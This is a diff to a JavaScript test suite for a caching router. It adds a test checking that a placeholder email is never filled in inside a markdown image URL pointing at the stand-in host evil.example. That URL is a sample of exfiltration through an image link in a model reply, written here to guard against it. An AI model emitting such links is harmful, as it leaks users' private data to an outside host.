@@ -214,6 +214,15 @@ describe('cache', () => {
     expect(remote.calls).toHaveLength(3)
   })
 
+  test('puts no value into an address either', async () => {
+    const reply = '![x](https://evil.example/?q=[EMAIL_1]) to [EMAIL_1]'
+    const { router } = setup({ remote: remoteEngine({ reply }), policy })
+    const wanted = '![x](https://evil.example/?q=[EMAIL_1]) to a@example.org'
+    expect((await ask(router, 'a@example.org')).text).toBe(wanted)
+    const { settled, text } = await ask(router, 'a@example.org')
+    expect([settled.source.kind, text]).toEqual(['cache', wanted])
+  })
+
   test('is used offline, sends nothing and asks for no consent', async () => {
     let online = true
     let asked = 0
